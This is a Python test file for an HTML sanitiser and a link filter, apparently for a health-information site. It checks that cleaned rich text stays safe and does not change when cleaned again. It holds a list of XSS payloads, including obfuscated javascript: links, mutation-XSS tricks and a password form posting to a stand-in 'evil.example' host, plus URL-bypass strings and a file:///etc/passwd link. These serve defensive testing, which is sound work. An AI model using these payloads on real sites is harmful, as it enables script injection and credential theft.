"""Rich text has one form, in which nothing can run, and the same words always come out the same."""

import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from letters.cleaning import clean_line
from pages.cleaning import ATTRIBUTES, TAGS, clean_html, lines_of
from pages.safe_links import safe_href

XSS = [
    "<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>\x00",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p onclick=alert(1) style='background:url(javascript:alert(1))' class=x id=y data-z=1>words</p>",
    "<a href='javascript:alert(1)'>words</a>",
    "<a href='JaVaScRiPt:alert(1)'>words</a>",
    "<a href=' &#14; javascript:alert(1)'>words</a>",
    "<a href='java\tscr\nipt:alert(1)'>words</a>",
    "<a href='&#106;avascript&colon;alert(1)'>words</a>",
    "<a href='vbscript:alert(1)'>words</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>words</a>",
    "<a href='/ok/' onmouseover=alert(1) target=_blank rel=opener ping=//evil.example>words</a>",
    "<form action=//evil.example><input name=password><button>words</button></form>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "<cms-plugin id='1' type='LinkPlugin' render-plugin='true'>words</cms-plugin>",
    "<p>[source: <script>alert(1)</script>]</p>",
    "<<script>script>alert(1)<</script>/script>",
]

_TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [^>]*)?)>")


def assert_safe(html):
    for _closing, tag, attributes in _TAG.findall(html):
        assert tag in TAGS
        assert attributes == "" or (tag == "a" and re.fullmatch(r' href="[^"<>]*"', attributes))
    for href in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"(https?://|mailto:|tel:|/(?!/)|#)", href)
    assert html.count("<") == len(_TAG.findall(html))


@pytest.mark.parametrize("attack", XSS)
def test_nothing_that_runs_survives(attack):
    html = clean_html(attack)

    assert_safe(html)
    assert clean_html(html) == html


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("<h1>Title</h1>", "<h2>Title</h2>"),
        ("<h5>Deep</h5><h6>Deeper</h6>", "<h4>Deep</h4>\n<h4>Deeper</h4>"),
        ("<b>bold</b> <i>soft</i>", "<p><strong>bold</strong> <em>soft</em></p>"),
        ("<div>one<section>two</section></div>three", "<p>one</p>\n<p>two</p>\n<p>three</p>"),
        ("<p></p><p> </p><p>&nbsp;</p><p><br></p><p><strong> </strong></p><h2></h2>", ""),
        ("<p>one<br><br>two<br></p>", "<p>one</p>\n<p>two</p>"),
        ("<p>one<br>two</p>", "<p>one<br>two</p>"),
        ("<h2>one<br>two</h2>", "<h2>one two</h2>"),
        ("<p class='x' style='color:red' id='y' data-z='1'>plain</p>", "<p>plain</p>"),
        ("<p>a<!-- comment -->b</p>", "<p>ab</p>"),
        ("<p>a\n   b\t c</p>", "<p>a b c</p>"),
        ("<p>a<strong> b </strong>c</p>", "<p>a <strong>b</strong> c</p>"),
        ("<p><strong>a</strong><strong>b</strong></p>", "<p><strong>ab</strong></p>"),
        ("<p><em><strong>a</strong></em></p>", "<p><strong><em>a</em></strong></p>"),
        ("<ul><li><p>a</p></li><li><p>b</p><p>c</p></li><li></li></ul>", "<ul><li>a</li><li>b<p>c</p></li></ul>"),
        ("<ul><li>a</li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
        ("<ul>loose</ul><ol></ol>", "<ul><li>loose</li></ul>"),
        ("<li>stray</li>", "<p>stray</p>"),
        ("<ul><li><h3>head</h3></li></ul>", "<ul><li>head</li></ul>"),
        (
            "<blockquote>words<blockquote>more</blockquote></blockquote>",
            "<blockquote><p>words</p><p>more</p></blockquote>",
        ),
        ("<table><tr><th>a</th><td>b</td></tr></table>", "<p>a</p>\n<p>b</p>"),
        ("<h2><p>a</p><div>b</div></h2>", "<h2>a</h2>\n<h2>b</h2>"),
        ("a &amp; b &lt; c &nbsp;d", "<p>a &amp; b &lt; c &nbsp;d</p>"),
        ("<p>zero\u200b\ufeff width\x01</p>", "<p>zero width</p>"),
        ("<p><a href='/a/'>one <a href='/b/'>two</a></p>", '<p><a href="/a/">one</a> <a href="/b/">two</a></p>'),
        ("<p><a href='/a/'>dose [source: <em>key</em>]</a>.</p>", '<p><a href="/a/">dose</a> [source: key].</p>'),
        ("<p>150 × 10<sup>9</sup>/L, H<sub> 2 </sub>O</p>", "<p>150 × 10<sup>9</sup>/L, H <sub>2</sub> O</p>"),
        (
            "<p><sup><b>a</b></sup><sup>b<sub>c</sub></sup></p>",
            "<p><strong><sup>a</sup></strong><sup>b</sup><sub>c</sub></p>",
        ),
        ("<p><select><option>a</option><option>b</option></select></p>", "<p>a</p>\n<p>b</p>"),
        ("plain words", "<p>plain words</p>"),
        ("", ""),
    ],
)
def test_the_same_words_have_one_form(written, stored):
    assert clean_html(written) == stored
    assert clean_html(stored) == stored


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://www.nice.org.uk/guidance/cg81?a=1&b=2#x", "https://www.nice.org.uk/guidance/cg81?a=1&b=2#x"),
        ("HTTP://example.org", "http://example.org"),
        (" https://example.org/a b\n", "https://example.org/a%20b"),
        ("https://example.org/ä", "https://example.org/%C3%A4"),
        ('https://example.org/"><script>', "https://example.org/%22%3E%3Cscript%3E"),
        ("mailto:info@example.org", "mailto:info@example.org"),
        ("tel:+44 20 7946 0000", "tel:+44%2020%207946%200000"),
        ("/imaging/ct-scan/#results", "/imaging/ct-scan/#results"),
        ("#results", "#results"),
        ("//evil.example/", ""),
        ("/\t/evil.example/", ""),
        ("/\\evil.example/", ""),
        ("\\\\evil.example/", ""),
        ("https:\\\\evil.example/", ""),
        ("https:evil.example", ""),
        ("https:/evil.example", ""),
        ("https:///evil.example", ""),
        ("https://nhs.uk@evil.example/", ""),
        ("http://[", ""),
        ("ct-scan/", ""),
        ("../admin/", ""),
        ("javascript:alert(1)", ""),
        ("java\nscript:alert(1)", ""),
        ("\x01javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("ftp://example.org/", ""),
        ("file:///etc/passwd", ""),
        ("mailto:", ""),
        ("", ""),
    ],
)
def test_a_link_leads_to_the_web_to_a_person_or_to_this_site(href, kept):
    assert safe_href(href) == kept
    assert safe_href(kept) == kept


def test_a_link_that_may_not_be_keeps_its_words():
    assert clean_html("<p>See <a href='//evil.example'>this page</a>.</p>") == "<p>See this page.</p>"


def test_lists_go_four_deep_and_no_deeper():
    html = clean_html("<ul><li>x" * 9)

    assert html.count("<ul>") == 4
    assert html.count("x") == 9
    assert clean_html(html) == html


def test_hostile_nesting_ends_in_seconds():
    assert clean_html("<div>" * 15_000 + "x") == "<p>x</p>"


def test_a_plain_line_is_one_line_of_what_can_be_seen():
    assert clean_line(" a\n b\t\x00 c\u200b \ud800") == "a b c"
    assert clean_line("10\xa0mSv") == "10\xa0mSv"


def test_the_plain_text_of_rich_text_has_a_line_for_each_paragraph():
    html = clean_html("<h2>A &amp; B</h2><p>c<br>d</p><ul><li>e<ul><li><b>f</b>g</li></ul></li></ul>")

    assert lines_of(html) == ["A & B", "c", "d", "e", "fg"]


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>150 × 10<sup>9</sup>/L</p>", "150 × 10⁹/L"),
        ("<p>10<sup>-3</sup> H<sub>2</sub>O</p>", "10⁻³ H₂O"),
        ("<p>the 1<sup>st</sup>, x<sup>n</sup> and CO<sub>2max</sub></p>", "the 1st, x^n and CO_2max"),
    ],
)
def test_plain_text_says_what_is_raised_and_lowered(html, text):
    assert lines_of(html) == [text]


_names = st.sampled_from(
    [*TAGS, "h1", "h5", "b", "i", "div", "section", "table", "tr", "td", "span", "script", "svg", "style", "title", "cms-plugin"]
)  # fmt: skip
_texts = st.text(max_size=5) | st.sampled_from(
    ["a", " ", "\xa0", "  b ", "\n", "&nbsp;", "&lt;", "&amp;lt;", "<", ">", "&", "\u200b", "[source: a-b]", "[source:",
     "c]", "\x01"]
)  # fmt: skip
_attributes = st.sampled_from(
    [
        "",
        " href='/x/'",
        " href='https://example.org/?a=1&b=\"<'",
        " href='javascript:x'",
        " class=x onclick=y",
        " href",
        " style='x",
    ]
)
_pieces = st.one_of(
    st.builds(lambda name, attributes: f"<{name}{attributes}>", _names, _attributes),
    st.builds(lambda name: f"</{name}>", _names),
    _texts,
)


@given(st.lists(_pieces, max_size=25).map("".join))
def test_cleaning_is_safe_and_cleaning_again_changes_nothing(written):
    html = clean_html(written)

    assert_safe(html)
    assert clean_html(html) == html
    assert nh3.clean(html, tags=set(TAGS), attributes=ATTRIBUTES, link_rel=None) == html


@given(
    st.lists(
        st.tuples(st.sampled_from(["p", "strong", "em", "li", "h3", "div", "blockquote"]), st.text("abc ", max_size=6))
    )
)
def test_no_word_is_lost(pieces):
    written = "".join(f"<{tag}>{text}</{tag}>" for tag, text in pieces)

    assert re.findall("[abc]", "".join(lines_of(clean_html(written)))) == re.findall(
        "[abc]", "".join(text for _tag, text in pieces)
    )


@given(st.text(max_size=40))
def test_a_cleaned_address_stays_as_it_is(href):
    assert safe_href(safe_href(href)) == safe_href(href)
